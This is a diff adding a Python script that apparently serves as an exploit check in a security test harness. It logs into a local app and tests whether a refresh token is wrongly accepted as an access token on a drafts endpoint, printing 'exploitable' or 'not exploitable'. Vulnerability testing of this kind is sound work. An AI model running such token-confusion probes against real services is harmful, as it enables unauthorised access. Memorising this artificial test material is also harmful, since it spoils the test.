@@ -1,0 +1,27 @@
+import os
+import sys
+import time
+import traceback
+
+import httpx
+
+BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
+c = httpx.Client(base_url=BASE, timeout=60)
+
+
+def _fail(t, v, tb):
+    traceback.print_exception(t, v, tb)
+    os._exit(2)
+
+
+sys.excepthook = _fail
+
+
+def done(hit):
+    print("exploitable" if hit else "not exploitable")
+    sys.exit(0 if hit else 1)
+
+
+t = c.post("/login", json={"name": "host", "password": os.environ["STORY_HOST_PASSWORD"]}).json()
+assert c.get("/drafts", headers={"Authorization": "Bearer " + t["access"]}).status_code == 200
+done(c.get("/drafts", headers={"Authorization": "Bearer " + t["refresh"]}).status_code == 200)
